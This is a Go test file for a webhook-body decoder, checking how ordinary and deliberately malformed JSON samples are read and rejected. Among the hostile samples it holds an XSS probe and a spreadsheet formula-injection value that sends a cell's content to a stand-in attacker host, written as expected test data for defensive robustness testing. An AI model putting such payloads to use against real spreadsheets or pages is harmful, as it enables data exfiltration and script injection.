package ppm_test

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/ppmrelay/ppmrelay/event"
	"github.com/ppmrelay/ppmrelay/ppm"
)

const samplesFolder = "../samples"

// sample returns the bytes of a file of the samples folder.
func sample(tb testing.TB, name string) []byte {
	tb.Helper()
	body, err := os.ReadFile(filepath.Join(samplesFolder, name))
	if err != nil {
		tb.Fatal(err)
	}
	return body
}

// bodies returns the names of all samples that are bodies of webhooks, good and bad.
func bodies(tb testing.TB) []string {
	tb.Helper()
	var all []string
	for _, pattern := range []string{"*.json", "hostile/*.json"} {
		files, err := filepath.Glob(filepath.Join(samplesFolder, pattern))
		if err != nil {
			tb.Fatal(err)
		}
		for _, file := range files {
			name, err := filepath.Rel(samplesFolder, file)
			if err != nil {
				tb.Fatal(err)
			}
			all = append(all, filepath.ToSlash(name))
		}
	}
	return all
}

// typeOf returns the type that a sample's name tells: "Project-Updated-Nothing.json". Those that tell none are posted
// as updates of a project.
func typeOf(name string) event.Type {
	parts := strings.Split(strings.TrimSuffix(name, ".json"), "-")
	if strings.HasPrefix(name, "hostile/") {
		return "Project:Updated"
	}
	return event.TypeOf(parts[0], parts[1])
}

func decoded(tb testing.TB, name string) event.Event {
	tb.Helper()
	e, err := ppm.Decode(sample(tb, name), typeOf(name))
	if err != nil {
		tb.Fatalf("%s: %v", name, err)
	}
	return e
}

// read is what a sample that can be read says.
type read struct {
	shape      event.Type // the type that is found without being told
	name       string     // "*" where it does not matter
	attributes int
	before     int    // -1: none were sent
	changes    string // fields, joined by commas
}

func TestSamplesThatCanBeRead(t *testing.T) {
	const (
		portal       = "Customer Portal"
		project      = "Project:Updated"
		projectStory = "OverallStatus,FinishDate,Budget,Manager,ScheduleStatus,Description,Tags"
	)
	want := map[string]read{
		"Project-Created.json":          {name: "Artificial Intelligence", attributes: 32, before: -1},
		"Project-Updated.json":          {shape: project, name: portal, attributes: 35, before: 35, changes: projectStory},
		"Project-Updated-Followup.json": {shape: project, name: portal, attributes: 35, before: 35, changes: "OverallStatus,FinishDate,ScheduleStatus"},
		"Project-Updated-Nothing.json":  {shape: project, name: portal, attributes: 35, before: 35},
		"Project-Deleted.json":          {name: "Old Intranet", attributes: 35, before: -1},
		"Idea-Created.json":             {name: "Dog Shelter Charity", attributes: 23, before: -1},
		"Idea-Updated.json":             {shape: "Idea:Updated", name: "Dog Shelter Charity", attributes: 23, before: 23, changes: "Stage"},
		"Idea-Deleted.json":             {name: "Standing desks", attributes: 23, before: -1},
		"Task-Created.json":             {name: "Create a test environment", attributes: 9, before: -1},
		"Task-Updated.json": {
			shape: "Task:Updated", name: "Write the release notes", attributes: 11, before: 11,
			changes: "DueDate,AssignedTo,Group,Priority,Duration,Progress,Description",
		},
		"Task-Deleted.json":    {name: "Create a test environment", attributes: 9, before: -1},
		"KeyDate-Created.json": {name: "Board review Q2", attributes: 8, before: -1},
		"KeyDate-Updated.json": {shape: "KeyDate:Updated", name: "Release 1.0", attributes: 8, before: 7, changes: "Status,IsComplete"},
		"KeyDate-Deleted.json": {name: "Pilot with ten customers", attributes: 8, before: -1},

		"hostile/attribute-names.json":     {shape: project, name: portal, attributes: 50, before: 35},
		"hostile/before-missing-keys.json": {shape: project, name: "Customer Portal 2", attributes: 36, before: 30, changes: "Name"},
		"hostile/bidi-zero-width.json": {
			shape: project, attributes: 35, before: 35, changes: "Name,Description",
			name: "Invoice \u202egnp.exe\u202c \u2066isolated\u2069 zero\u200bwidth\u200cjoin\u200der \ufeffbom \u00adsoft\u2060word \u200e\u200f",
		},
		"hostile/bom.json": {shape: project, name: portal, attributes: 35, before: 35, changes: "OverallStatus"},
		"hostile/control-characters.json": {
			shape: project, attributes: 35, before: 35, changes: "Name",
			name: "nul \x00 bell \a esc \x1b[31m del \x7f c1 \u0085 line\nbreak\r\ntab\t",
		},
		"hostile/dates.json":             {shape: project, name: portal, attributes: 44, before: 35, changes: "StartDate,FinishDate"},
		"hostile/deep-nesting-500.json":  {shape: project, name: portal, attributes: 36, before: 35},
		"hostile/description-40000.json": {shape: project, name: portal, attributes: 35, before: 35, changes: "Description"},
		"hostile/duplicate-keys.json":    {shape: project, name: "second name", attributes: 36, before: 35, changes: "Name"},
		"hostile/emoji.json":             {shape: project, name: "*", attributes: 35, before: 35, changes: "Name,Description,Tags"},
		"hostile/empty-attributes.json":  {},
		"hostile/html-script.json":       {shape: project, name: "<script>alert(1)</script>", attributes: 35, before: 35, changes: "Name,Description"},
		"hostile/invalid-utf8.json": {
			shape: project, attributes: 35, before: 35, changes: "Name",
			name: "M\uFFFDnchen \uFFFD\uFFFD\uFFFD \uFFFD\uFFFD",
		},
		"hostile/lone-surrogate.json":            {shape: project, name: "high \uFFFD low \uFFFD pair 🚀", attributes: 35, before: 35, changes: "Name"},
		"hostile/many-attributes.json":           {shape: project, name: portal, attributes: 435, before: 435, changes: "*"},
		"hostile/many-people.json":               {shape: project, name: portal, attributes: 35, before: 35, changes: "Manager"},
		"hostile/missing-ids.json":               {shape: project, name: portal, attributes: 35, before: 35},
		"hostile/no-initiator-no-timestamp.json": {name: "Create a test environment", attributes: 9, before: -1},
		"hostile/null-attributes.json":           {attributes: -1, before: -1},
		"hostile/null-data.json":                 {attributes: -1, before: -1},
		"hostile/null-initiator.json":            {shape: "KeyDate:Updated", name: "Release 1.0", attributes: 8, before: 7, changes: "Status"},
		"hostile/numbers.json": {
			shape: project, name: portal, attributes: 35, before: 35,
			changes: "Budget,Impact,Risk,Cost,Revenue,Score,AlignmentScore",
		},
		"hostile/odd-ids.json":        {shape: project, name: portal, attributes: 35, before: 35},
		"hostile/sheet-formulas.json": {shape: project, name: `=IMPORTXML("https://evil.example/?q="&A1,"//a")`, attributes: 52, before: 35, changes: "Name,HighLevelScope,Description,Tags"},
		"hostile/slack-markup.json":   {shape: project, name: "*", attributes: 35, before: 35, changes: "Name,Description,Tags"},
		"hostile/template-text.json":  {shape: project, name: "*", attributes: 35, before: 35, changes: "Name,Description"},
		"hostile/type-changes.json": {
			shape: project, name: portal, attributes: 35, before: 35,
			changes: "FinishDate,Budget,Manager,Priority,Stage,Client’s contact,Go-live approved",
		},
		"hostile/unknown-event.json": {name: "Supplier is late", attributes: 3, before: -1},
	}
	for _, name := range bodies(t) {
		t.Run(name, func(t *testing.T) {
			start := time.Now()
			e, err := ppm.Decode(sample(t, name), typeOf(name))
			if took := time.Since(start); took > time.Second {
				t.Errorf("took %v", took)
			}
			w, readable := want[name]
			if (err == nil) != readable {
				t.Fatalf("got error %v, want readable: %v", err, readable)
			}
			if readable {
				compare(t, sample(t, name), e, w)
			}
		})
	}
}

func compare(t *testing.T, body []byte, e event.Event, want read) {
	t.Helper()
	envelope, err := ppm.Peek(body, "")
	if err != nil {
		t.Fatal(err)
	}
	if envelope.Type != want.shape {
		t.Errorf("type by shape: got %q, want %q", envelope.Type, want.shape)
	}
	if len(envelope.Fingerprint) != 32 {
		t.Errorf("fingerprint: got %d bytes, want 32", len(envelope.Fingerprint))
	}
	if e.Entity.Name != want.name && want.name != "*" {
		t.Errorf("name: got %q, want %q", e.Entity.Name, want.name)
	}
	if got := count(e.Attributes); got != want.attributes {
		t.Errorf("attributes: got %d, want %d", got, want.attributes)
	}
	if got := count(e.Before); got != want.before {
		t.Errorf("attributes before: got %d, want %d", got, want.before)
	}
	changes := event.Changes(e, nil)
	changed := make([]string, len(changes))
	for i := range changes {
		changed[i] = changes[i].Field
	}
	if got := strings.Join(changed, ","); got != want.changes && want.changes != "*" {
		t.Errorf("changes: got %q, want %q", got, want.changes)
	}
}

// count returns -1 for what was not sent, which is not the same as sent without any.
func count(a event.Attributes) int {
	if a == nil {
		return -1
	}
	return len(a)
}

func TestSamplesThatCannotBeRead(t *testing.T) {
	tests := []struct {
		name  string
		fault ppm.Fault
		text  string
	}{
		{"array-of-messages", ppm.FaultNotObject, "the body is not one JSON object: it begins with a list"},
		{"deep-nesting-12000", ppm.FaultTooDeep, "the JSON is more than 10000 levels deep, at byte 31158"},
		{"empty-body", ppm.FaultEmpty, "the body is empty"},
		{"json-string", ppm.FaultNotObject, "the body is not one JSON object: it begins with a text"},
		{"raw-idea-updated-smart-quote", ppm.FaultSyntax, "not valid JSON, at byte 629: '”' does not belong there"},
		{"raw-project-created-missing-brace", ppm.FaultNotObject, "the body is not one JSON object: it begins with a text"},
		{"truncated", ppm.FaultCutOff, "the JSON ends early, at byte 2038"},
		{"two-documents", ppm.FaultTrailing, "more follows the JSON object, from byte 2331"},
		{"utf16le", ppm.FaultEncoding, "the body is UTF-16, not UTF-8"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			body := sample(t, "hostile/"+tt.name+".json")
			_, err := ppm.Decode(body, "Project:Updated")
			failure, ok := errors.AsType[*ppm.BodyError](err)
			if !ok {
				t.Fatalf("got %v, want a BodyError", err)
			}
			if failure.Fault != tt.fault || err.Error() != tt.text {
				t.Errorf("got %s, %q, want %s, %q", failure.Fault, err, tt.fault, tt.text)
			}
			if _, peeked := ppm.Peek(body, ""); peeked == nil || peeked.Error() != tt.text {
				t.Errorf("Peek says %v, Decode %v", peeked, err)
			}
		})
	}
}

// TestEveryMessageIDDiffers holds the samples to what their README says, and shows that ids survive.
func TestEveryMessageIDDiffers(t *testing.T) {
	unusual := []string{"hostile/odd-ids.json", "hostile/missing-ids.json"}
	seen := map[string]string{}
	for _, name := range bodies(t) {
		envelope, err := ppm.Peek(sample(t, name), typeOf(name))
		if err != nil || slices.Contains(unusual, name) {
			continue
		}
		if len(envelope.MessageID) != 36 || seen[envelope.MessageID] != "" {
			t.Errorf("%s: got id %q, which %q has too", name, envelope.MessageID, seen[envelope.MessageID])
		}
		seen[envelope.MessageID] = name
	}
	if len(seen) < 40 {
		t.Errorf("got %d ids, want those of all samples", len(seen))
	}
}
